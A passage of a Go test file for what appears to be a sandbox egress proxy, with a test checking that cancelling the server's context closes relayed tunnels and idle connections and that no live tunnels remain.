		t.Fatalf("second RemoveSandbox closed %d", n)
	}
}

// TestShutdownClosesTunnels: cancelling Serve's context closes live
// tunnels (both sides) and idle kept-alive connections, and Serve returns.
func TestShutdownClosesTunnels(t *testing.T) {
	up := egresstest.StartEcho(t)
	p := New(Options{Logger: slog.New(slog.NewJSONHandler(io.Discard, nil))})
	p.SetPolicy("sb", compile(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%d]}\n", up.Port())))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Serve(ctx, ln, "sb") }()
	r := egresstest.Connect(t, ln.Addr().String(), up.Addr.String())
	if _, err := egresstest.Echo(r, "a"); err != nil {
		t.Fatal(err)
	}
	idle, err := net.Dial("tcp", ln.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer idle.Close()
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Serve after cancel: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Serve did not return after cancel (a tunnel kept it waiting)")
	}
	if _, err := egresstest.Echo(r, "b"); err == nil {
		t.Fatal("tunnel still relays after shutdown")
	}
	idle.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, err := idle.Read(make([]byte, 1)); err == nil {
		t.Fatalf("idle connection still open after shutdown (read %d bytes)", n)
	}
	if n := p.LiveTunnels("sb"); n != 0 {
		t.Fatalf("%d live tunnels after shutdown", n)
	}
}
